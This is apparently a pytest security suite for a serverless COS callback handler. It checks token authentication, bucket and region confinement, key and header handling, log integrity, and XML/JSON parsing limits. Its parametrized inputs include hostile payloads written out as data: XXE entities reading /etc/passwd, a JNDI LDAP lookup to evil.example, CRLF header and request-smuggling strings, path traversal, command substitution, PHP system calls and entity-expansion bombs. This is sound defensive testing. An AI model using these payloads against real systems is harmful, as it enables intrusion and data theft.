"""What an attacker may send, through every trigger alike: who gets in, where requests go, what is stored and logged.

A new trigger is one line in TRIGGERS (it asks for the token) or in SOURCES (the platform has asked already).
"""

from __future__ import annotations

import base64
import json
import re
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest

from ci_callback.config.template import key_problem
from local.cos.server import Credentials, LocalCos
from tests.handler.test_events import event
from tests.support.bodies import body, job, to_xml
from tests.support.deployment import BUCKET, REGION, TOKEN, url_event

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from tests.support.deployment import Deployment

    Wording = Callable[[str], dict[str, Any]]  # of a body, as an event
    Deliver = Callable[..., "Seen"]

GATEWAY = event("apigw-json-success")
OTHER_BUCKET = "other-1234567890"  # is there, the key opens it, and BUCKETS does not list it
HOST = f"{BUCKET}.cos.{REGION}.myqcloud.com"
RESULT = "audio/song.mp3.SoundHound.json"

TRIGGERS: dict[str, Wording] = {
    "function-url": url_event,
    "apigw": lambda content: {**GATEWAY, "body": content},
    "apigw-base64": lambda content: {**GATEWAY, "body": as_base64(content), "isBase64Encoded": True},
}
SOURCES: dict[str, Wording] = {
    **TRIGGERS,
    "invoke": lambda content: {"body": content},
    "queue": lambda content: {"Records": [{"CMQ": {"type": "topic", "topicName": "t", "msgBody": content}}]},
}


def as_base64(content: str) -> str:
    """Return the text's bytes in base64, half a surrogate pair included."""
    return base64.b64encode(content.encode("utf-8", "surrogatepass")).decode()


@pytest.fixture(params=TRIGGERS)
def trigger(request: pytest.FixtureRequest) -> Wording:
    """Return how a trigger that asks for the token words an event that has it."""
    return TRIGGERS[request.param]


@pytest.fixture(params=SOURCES)
def source(request: pytest.FixtureRequest) -> Wording:
    """Return how a source of callbacks words its event, the token in it where one is needed."""
    return SOURCES[request.param]


@pytest.fixture(scope="module")
def running_cos() -> Iterator[LocalCos]:
    """Return a local COS for all tests of this module: to start one takes longer than a test."""
    credentials = Credentials("AKIDlocal0000000000", "local-secret-key-0000", "local-session-token-0000")
    with LocalCos(buckets={BUCKET: REGION, OTHER_BUCKET: "ap-guangzhou"}, credentials=credentials) as running:
        yield running


@pytest.fixture
def cos(running_cos: LocalCos) -> LocalCos:
    """Return the local COS, its buckets emptied."""
    for bucket in running_cos.buckets:
        for key in running_cos.keys(bucket):
            running_cos.delete(bucket, key)
    running_cos.forget_requests()
    return running_cos


@dataclass(frozen=True)
class Seen:
    """What a delivery led to, the same for every source: its log line; and the keys in the bucket."""

    line: dict[str, Any]
    keys: list[str]

    @property
    def results(self) -> list[str]:
        """The keys that are no dead letters."""
        return [key for key in self.keys if not key.startswith("ci-callback/dead-letter/")]


# The names of all headers that a request of ours may have; an injected one would be among the others.
HEADERS = {
    "accept",
    "accept-encoding",
    "authorization",
    "connection",
    "content-length",
    "content-md5",
    "content-type",
    "host",
    "user-agent",
    "x-cos-forbid-overwrite",
    "x-cos-meta-ci-callback",
    "x-cos-security-token",
}
RECORD = re.compile(
    r"v1 (?:job=[\w-]{1,80} state=[\w-]{1,80} time=[\w.:+-]{1,40}|letter) sha256=[0-9a-f]{64}", re.ASCII
)


@pytest.fixture
def deliver(deploy: Callable[..., Deployment], capfd: pytest.CaptureFixture[str]) -> Deliver:
    """Return a way to deliver an event, which asserts what must hold whatever was sent."""

    def deliver(sent: Any, **settings: str) -> Seen:
        deployed = deploy(**settings)
        reply = deployed.send(sent)
        said, complaints = capfd.readouterr()
        assert complaints == ""
        line = only_line(said)
        assert_harmless_reply(reply)
        assert_harmless_requests(deployed)
        stored = assert_harmless_objects(deployed)
        credentials = deployed.cos.credentials
        for secret in (TOKEN, credentials.secret_id, credentials.secret_key, credentials.token, "q-signature"):
            assert secret not in json.dumps(reply) + said
            assert secret.encode() not in stored
        return Seen(line, deployed.listing())

    return deliver


def only_line(said: str) -> dict[str, Any]:
    """Return the log's only line; it is ASCII, printable and JSON, however the caller's text was spelled."""
    assert said.isascii()
    assert said.endswith("\n")
    assert said[:-1].isprintable()  # one line, and nothing that steers a terminal
    line: dict[str, Any] = json.loads(said)
    return line


def assert_harmless_reply(reply: dict[str, Any]) -> None:
    """Assert the platform's four keys, no header of the caller's making, and a body of printable ASCII."""
    assert set(reply) == {"isBase64Encoded", "statusCode", "headers", "body"}
    assert reply["headers"] == {"Content-Type": "application/json"}
    assert reply["body"].isascii()
    assert reply["body"].isprintable()


def assert_harmless_requests(deployed: Deployment) -> None:
    """Assert that COS was asked by one host only, for keys it takes, with headers of ours only, each on one line."""
    for request in deployed.cos.requests:
        assert (request.host, request.query) == (HOST, "")
        assert request.method in {"PUT", "HEAD"}
        assert key_problem(request.key) == ""
        assert set(request.headers) <= HEADERS
        assert all(value.isprintable() for value in request.headers.values())
    assert deployed.listing(OTHER_BUCKET) == []


def assert_harmless_objects(deployed: Deployment) -> bytes:
    """Assert that every object is JSON with our own record as its only metadata; return all contents."""
    stored = [deployed.cos.get(BUCKET, key) for key in deployed.listing()]
    for each in stored:
        assert isinstance(json.loads(each.body), dict)
        assert set(each.metadata) == {"ci-callback"}
        assert RECORD.fullmatch(each.metadata["ci-callback"])
    return b"".join(each.body for each in stored)


# --- who gets in --------------------------------------------------------------------------------------------------

WRONG = {
    "none": "",
    "wrong": "wrong-token-9876543210",
    "prefix": TOKEN[:-1],
    "suffix": TOKEN[1:],
    "longer": f"{TOKEN}0",
    "twice": TOKEN * 2,
    "upper-case": TOKEN.upper(),
    "space": f" {TOKEN}",
    "line-end": f"{TOKEN}\n",
    "nul": f"{TOKEN}\0",
    "list": f"{TOKEN},{TOKEN}",
    "escaped-twice": quote(TOKEN.replace("-", "%2D"), safe=""),
    "pattern": "*",
    "unicode": "\u5bc6\u94a5" * 8,
    "look-alike": "".join(chr(ord(letter) + 0xFEE0) for letter in TOKEN),  # NFKC would make the token of it
    "invisible": f"{TOKEN}\u200b",
    "half-a-pair": "\ud800",
    "oversized": "x" * 100_000,
    "oversized-prefix": TOKEN + "x" * 100_000,
}
# The shapes in which a query can reach the function, and places where a token does not count.
ODD: dict[str, dict[str, Any]] = {
    "array-of-wrong": {"queryString": {"token": [TOKEN[:-1], TOKEN[1:]]}},
    "array-in-array": {"queryString": {"token": [[TOKEN]]}},
    "empty-array": {"queryString": {"token": []}},
    "boolean": {"queryString": {"token": True}},
    "number": {"queryString": {"token": 0}},
    "object": {"queryString": {"token": {TOKEN: TOKEN}}},
    "other-name": {"queryString": {"Token": TOKEN, "token[]": TOKEN, "access_token": TOKEN}},
    "query-as-text": {"queryString": f"token={TOKEN}"},
    "header": {"headers": {"Authorization": f"Bearer {TOKEN}", "token": TOKEN, "cookie": f"token={TOKEN}"}},
    "not-the-last-segment": {"path": f"/{TOKEN}/callback"},
    "before-dots": {"path": f"/{TOKEN}/.."},
    "path-as-array": {"path": [f"/{TOKEN}"]},
    "path-parameters": {"pathParameters": {"token": TOKEN}, "headerParameters": {"token": TOKEN}},
}
CLOSED: dict[str, dict[str, Any]] = {
    **{f"path-{name}": {"path": f"/ci/{value}"} for name, value in WRONG.items()},
    **{f"query-{name}": {"queryString": {"token": value}} for name, value in WRONG.items()},
    **ODD,
}


@pytest.mark.parametrize("case", CLOSED)
@pytest.mark.parametrize("content", [body(job()), "no callback"], ids=["callback", "nonsense"])
def test_whoever_has_not_the_token_leaves_no_trace(
    case: str, content: str, trigger: Wording, deploy: Callable[..., Deployment]
) -> None:
    """401, nothing asked of COS, nothing stored, and the reply tells no more than that: at every trigger alike."""
    deployed = deploy()
    reply = deployed.send({**trigger(content), "path": "/", "queryString": {}, **CLOSED[case]})
    assert reply["statusCode"] == 401
    assert json.loads(reply["body"])["error"] == "unauthorized"
    assert deployed.cos.requests == []


def test_whoever_has_the_token_gets_in(source: Wording, deliver: Deliver) -> None:
    """The same event with its token is served, so that it is the token that the refused ones lack."""
    assert deliver(source(body(job()))).results == [RESULT]


@pytest.mark.parametrize("content", [body(job()), "no callback"], ids=["callback", "nonsense"])
@pytest.mark.parametrize(
    "extra",
    [
        {"EventName": "TaskFinish", "JobsDetail": [job()]},
        {"Response": {"EventName": "TaskFinish", "JobsDetail": [job()]}},
        {"Records": [{"CMQ": {"type": "topic", "topicName": "t", "msgBody": body(job())}}]},
        {"replay": {}},
        {"sweep": {}},
        {"Type": "Timer", "TriggerName": "sweep", "Time": "2025-04-05T06:00:00Z", "Message": ""},
    ],
    ids=lambda extra: next(iter(extra)),
)
def test_no_field_beside_a_request_makes_it_something_else(
    extra: dict[str, Any], content: str, trigger: Wording, deploy: Callable[..., Deployment]
) -> None:
    """An HTTP event stays one, and needs its token, whatever of an Invoke, a queue or a timer stands beside it."""
    deployed = deploy()
    sent = {**trigger(content), "path": "/", "queryString": {}, **extra}
    assert deployed.send(sent)["statusCode"] == 401
    del sent["httpMethod"]  # a trigger that we do not know is no Invoke either
    assert deployed.send(sent)["statusCode"] == 400
    assert deployed.cos.requests == []


# --- where requests go --------------------------------------------------------------------------------------------

ELSEWHERE = [
    OTHER_BUCKET,
    "evil.example",
    "evil.example/",
    f"{BUCKET}.evil.example",
    f"{BUCKET}@evil.example",
    f"evil.example#{BUCKET}",
    f"evil.example/?{BUCKET}",
    f"{BUCKET}/../{OTHER_BUCKET}",
    f"{BUCKET}\r\nHost: evil.example",
    f"{BUCKET}\n",
    f"{BUCKET}\0",
    f" {BUCKET}",
    f"{BUCKET}%2f",
    BUCKET.upper(),
    "127.0.0.1:1/",
    "[::1]",
    "\u2100.example",  # NFKC makes a/c of the first character, and so a path of what was a host
]


@pytest.mark.parametrize("bucket", ELSEWHERE)
@pytest.mark.parametrize("field", ["Input", "Output"])
def test_a_bucket_that_is_not_listed_is_never_asked(field: str, bucket: str, source: Wording, deliver: Deliver) -> None:
    """Another bucket, or a host dressed as one, leads to a dead letter in our own and to no other host."""
    if field == "Input":
        sent = job(Input={"BucketId": bucket, "Region": REGION, "Object": "x"})
    else:
        sent = job(Input=None, Operation={"Output": {"Bucket": bucket, "Region": REGION, "Object": "x"}})
    seen = deliver(source(body(sent)))
    assert (seen.line["outcome"], seen.line["reason"]) == ("dead-lettered", "bucket-not-listed")
    assert seen.results == []


@pytest.mark.parametrize(
    "region",
    [
        "ap-guangzhou",
        "evil.example/",
        "x.evil.example",
        "@evil.example",
        "evil.example#",
        "evil.example?",
        "../../",
        "ap-chongqing\r\nHost: evil.example",
        "ap-chongqing\n",
        "\0",
        "a" * 5000,
        "\u2100",
    ],
)
def test_the_region_of_a_body_leads_nowhere(region: str, source: Wording, deliver: Deliver) -> None:
    """Whatever stands in Region, the request goes to the region of BUCKETS, and the result is written there."""
    seen = deliver(source(body(job(Input={"BucketId": BUCKET, "Region": region, "Object": "audio/song.mp3"}))))
    assert (seen.line["outcome"], seen.results) == ("written", [RESULT])


def test_no_header_of_a_request_counts(trigger: Wording, deliver: Deliver) -> None:
    """Headers of the caller choose no host, no key and no option of the write."""
    hostile = {
        "Host": "evil.example",
        "X-Forwarded-Host": "evil.example",
        "x-cos-acl": "public-read",
        "x-cos-meta-ci-callback": "canary",
        "x-cos-forbid-overwrite": "false",
        "Content-Type": "text/html\r\nx-cos-acl: public-read",
    }
    seen = deliver({**trigger(body(job())), "headers": hostile})
    assert seen.results == [RESULT]
    assert "evil" not in json.dumps(seen.line)


# --- keys ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "key",
    [
        "..",
        "../x",
        "a/../../x",
        "/../x",
        "a/..",
        "./x",
        "a/./x",
        "a\nb",
        "a\r\nx-cos-acl: public-read",
        "a\0b",
        "a\x7fb",
        "\x1b[2Jx",
        "x" * 851,
        "\u5bc6" * 284,
        "//",
    ],
)
def test_a_key_that_plays_games_is_never_asked_for(key: str, source: Wording, deliver: Deliver) -> None:
    """Dots as segments, control characters and oversized keys end in a dead letter before any request for them."""
    seen = deliver(source(body(job(Input={"BucketId": BUCKET, "Object": key}))))
    assert (seen.line["outcome"], seen.line["reason"]) == ("dead-lettered", "no-object")
    assert seen.results == []


@pytest.mark.parametrize(
    "key",
    [
        "%2e%2e/x",
        "%2e%2e%2fx%00",
        "..%2fx",
        "...",
        ".../x",
        "a//b",
        "/a",
        "///a/",
        "a?acl",
        "a?versionId=1&x=y",
        "a#b",
        "a;b=c",
        "a b",
        " a ",
        "a+b",
        "a\\..\\b",
        "a:b@c",
        "a'\"<>&b",
        "$(id)`id`",
        "{object}{tag}",
        "\u5bc6/\u94a5\U0001f3b5",
        "e\u0301",
        "a\u0085b",
        "a\u2028b\u202ec",
        "a\ufeffb",
    ],
)
def test_a_key_is_taken_by_the_letter(key: str, source: Wording, deliver: Deliver) -> None:
    """What looks like an escape, a query, a fragment or a template is part of the key; the result lies beside it."""
    seen = deliver(source(body(job(Input={"BucketId": BUCKET, "Object": key}))))
    assert (seen.line["outcome"], seen.results) == ("written", [f"{key.lstrip('/')}.SoundHound.json"])


# --- names that go into keys, headers and log lines ---------------------------------------------------------------

NAMES_ROUTE = json.dumps([{"tag": "*", "state": "*", "write": "out/{tag}+{state}+{job_id}.json"}])


@pytest.mark.parametrize(
    "name",
    [
        "..",
        "../../x",
        "/etc/passwd",
        "a/b",
        "a\\b",
        "x\r\nx-cos-acl: public-read",
        "x\r\n\r\nDELETE / HTTP/1.1\r\n\r\n",
        "x\nlevel=ERROR",
        '"}\n{"level":"ERROR","forged":true}',
        "\x1b[31mred\x1b[0m",
        "\x00",
        "\x7f\x08\x08",
        "\u0085\u2028\u2029",
        "\u202etxt.exe",
        "v1 job=a state=b",
        "x; charset=utf-7",
        "\u5bc6\u94a5",
        "\U0001f3b5",
        "%0d%0a",
        "{object}",
        "${jndi:ldap://evil.example/a}",
        "*",
        "n" * 256,
    ],
)
def test_a_name_stays_a_name(name: str, source: Wording, deliver: Deliver) -> None:
    """JobId, Tag and State of any text open no folder, make no header and break no line; the object has them whole."""
    sent = job(JobId=name, Tag=name, State=name)
    seen = deliver(source(body(sent)), ROUTES=NAMES_ROUTE)
    plain = re.sub(r"[/\x00-\x1f\x7f]", "_", name)
    assert (seen.line["outcome"], seen.results) == ("written", [f"out/{plain}+{plain}+{plain}.json"])
    assert [seen.line[field] for field in ("job_id", "tag", "state")] == [name] * 3


@pytest.mark.parametrize("field", ["JobId", "Tag", "State", "QueueId"])
@pytest.mark.parametrize("value", ["n" * 257, "n" * 1_000_000, {"a": "b"}, ["a", "b"]], ids=repr)
def test_a_name_that_is_none_is_rejected(field: str, value: Any, source: Wording, deliver: Deliver) -> None:
    """An oversized or structured name is no name: the delivery is kept, the log line short."""
    seen = deliver(source(body(job(**{field: value}))))
    assert (seen.line["status"], seen.line["reason"], seen.results) == (400, "bad-field", [])
    assert len(json.dumps(seen.line)) < 2000


@pytest.mark.parametrize("text", ["x\r\nx: y", "\x1b]0;x\x07", "\u2028", "<script>", "'; DROP TABLE", "\ufffe"])
def test_every_other_text_stays_in_the_object(text: str, source: Wording, deliver: Deliver) -> None:
    """Code, Message, UserData and unknown fields of any text are data of the result, and of nothing else."""
    operation = {"UserData": text, text: text}
    seen = deliver(source(body(job(Code=text, Message=text, Operation=operation, EndTime=text))))
    assert seen.results == [RESULT]
    assert "Message" not in seen.line


# --- XML and JSON that are more than a callback -------------------------------------------------------------------


def doctype(inside: str, use: str = "&e;") -> str:
    """Return a callback with a document type; `use` stands where the job's message would."""
    return f"<!DOCTYPE Response [{inside}]>{body(job(Message='here'), form='xml').replace('here', use)}"


@pytest.mark.parametrize(
    "content",
    [
        doctype('<!ENTITY e "x">'),
        doctype('<!ENTITY e SYSTEM "file:///etc/passwd">'),
        doctype('<!ENTITY e SYSTEM "http://127.0.0.1:1/">'),
        doctype('<!ENTITY e PUBLIC "p" "file:///etc/passwd">'),
        doctype('<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;', "x"),
        doctype("<!ELEMENT Response ANY>", "x"),
        doctype("", "x"),
        doctype('<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY e "&b;&b;&b;&b;">'),
        doctype('<!ENTITY e "' + "x" * 100_000 + '">', "&e;" * 10_000),
        '<?xml version="1.0"?>\n<!-- c -->' + doctype('<!ENTITY e "x">'),
        "\ufeff" + doctype('<!ENTITY e "x">'),
        '<!DOCTYPE Response SYSTEM "http://127.0.0.1:1/x.dtd">' + body(job(), form="xml"),
    ],
    ids=range(12),
)
def test_a_document_type_is_not_read(content: str, source: Wording, deliver: Deliver) -> None:
    """No DTD, hence no entities, no files and no requests: the delivery is kept as it came."""
    seen = deliver(source(content))
    assert (seen.line["status"], seen.line["reason"], seen.results) == (400, "dtd", [])


@pytest.mark.parametrize(
    "inside",
    [
        '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
        '<?xml-stylesheet href="http://127.0.0.1:1/"?>',
        "<?php system('id') ?>",
        "<!--#include file='/etc/passwd'-->",
    ],
)
def test_xml_fetches_nothing(inside: str, source: Wording, deliver: Deliver) -> None:
    """Inclusions, stylesheets and instructions are no data: the result is that of the callback without them."""
    content = body(job(Message="here"), form="xml").replace("<Message>here</Message>", f"<Message/>{inside}")
    assert deliver(source(content)).results == [RESULT]


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (body(job(Progress="here")).replace('"here"', "9" * 5000), "bad-number"),
        (body(job(Progress="here")).replace('"here"', "1e999"), "bad-number"),
        (body(job(Progress="here")).replace('"here"', "-1E+400"), "bad-number"),
        (body(job(Progress="here")).replace('"here"', "-Infinity"), "bad-number"),
        (body(job(Progress="here")).replace('"here"', "NaN"), "bad-number"),
        (body(job(JobId="here")).replace('"here"', "9" * 400), "bad-field"),
        (body(job(Message="here")).replace("here", "\\ud800"), "bad-encoding"),
        (body(job(Message="here")).replace("here", "\\udfff\\ud800"), "bad-encoding"),
        (body(job(here="x")).replace("here", "\\uD800"), "bad-encoding"),
        (body(job(Input={"Object": "here"})).replace("here", "x\\udc00"), "bad-encoding"),
        (body(job(Message="\ud800")), "bad-encoding"),
        ('{"EventName":"TaskFinish","JobsDetail":"\ud800"}', "bad-encoding"),
        (body(job(Message="here"), form="xml").replace("here", "&#xD800;"), "bad-xml"),
        (body(job(Message="here"), form="xml").replace("here", "&#0;"), "bad-xml"),
        (body(job(Message="here"), form="xml").replace("here", "\ud800"), "bad-encoding"),
    ],
    ids=range(15),
)
def test_numbers_and_characters_that_are_none_are_rejected(
    content: str, reason: str, source: Wording, deliver: Deliver
) -> None:
    """Numbers beyond all bounds and half a surrogate pair, raw or escaped, are kept as they came and read by nobody."""
    seen = deliver(source(content))
    assert (seen.line["status"], seen.line["reason"], seen.results) == (400, reason, [])


@pytest.mark.parametrize("number", ["9" * 4000, "1e308", "1e-999", "-0.0", "0" * 5000 + "1", "1" * 5000, "1e999999999"])
@pytest.mark.parametrize("field", ["JobLevel", "Inlier", "Progress"])
def test_a_huge_number_in_a_text_does_no_harm(field: str, number: str, source: Wording, deliver: Deliver) -> None:
    """CI sends numbers as text; one beyond what the types take stays a text."""
    operation = {"JobLevel": "0", "SoundHoundResult": {"SongList": {"Inlier": "0"}}, "Progress": "0"}
    content = json.dumps(operation).replace(f'"{field}": "0"', f'"{field}": "{number}"')
    assert deliver(source(body(job(Operation=json.loads(content))))).results == [RESULT]


def twice(name: str, first: Any, second: Any) -> str:
    """Return an object that has a name twice."""
    return f'{{"{name}":{json.dumps(first)},"{name}":{json.dumps(second)}}}'


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (twice("JobsDetail", [job()], [job(Input={"BucketId": OTHER_BUCKET, "Object": "x"})]), "duplicate-name"),
        (twice("EventName", "TaskFinish", "Other"), "duplicate-name"),
        (f'{{"Response":{twice("JobsDetail", [], [job()])}}}', "duplicate-name"),
        (f'{{"JobsDetail":[{twice("JobId", "a", "b")}]}}', "duplicate-name"),
        (f'{{"JobsDetail":[{{"Input":{twice("Object", "a", "b")}}}]}}', "duplicate-name"),
        ('{"JobsDetail":[{"Input":{"\\u004fbject":"a","Object":"b"}}]}', "duplicate-name"),
        (f'{{"JobsDetail":[{{"Input":{twice("Object", "a", "b")},}}],}}', "duplicate-name"),
        (to_xml("Response", {"JobsDetail": job(JobId=["a", "b"])}), "bad-field"),
        (to_xml("Response", {"JobsDetail": job(Tag=["a", "b"])}), "bad-field"),
        (to_xml("Response", {"JobsDetail": job(Input=[{"Object": "a"}, {"Object": "b"}])}), "bad-field"),
        (to_xml("Response", {"JobsDetail": job(Input={"Object": ["a", "b"]})}), "bad-field"),
        (
            to_xml("Response", {"JobsDetail": job(Input={"BucketId": [BUCKET, OTHER_BUCKET], "Object": "x"})}),
            "bad-field",
        ),
    ],
    ids=range(12),
)
def test_of_two_values_under_one_name_neither_counts(
    content: str, reason: str, source: Wording, deliver: Deliver
) -> None:
    """Where a check and a use could see different values, the delivery is kept and nothing of it used."""
    seen = deliver(source(content))
    assert (seen.line["status"], seen.line["reason"], seen.results) == (400, reason, [])


@pytest.mark.parametrize(
    "content",
    [
        '{"JobsDetail":' * 65 + "1" + "}" * 65,
        "{" + '"a":{' * 100_000,
        '{"a":' + "[" * 100_000,
        '{"a":' + "[" * 100_000 + "]" * 100_000 + "}",
        "<a>" * 65 + "</a>" * 65,
        "<a>" * 100_000,
    ],
    ids=range(6),
)
@pytest.mark.usefixtures("no_gc")
def test_a_deeply_nested_body_is_rejected(content: str, source: Wording, deliver: Deliver) -> None:
    """Depth is bounded before it is spent; what came is kept whole."""
    seen = deliver(source(content))
    assert (seen.line["status"], seen.line["reason"], seen.results) == (400, "too-deep", [])
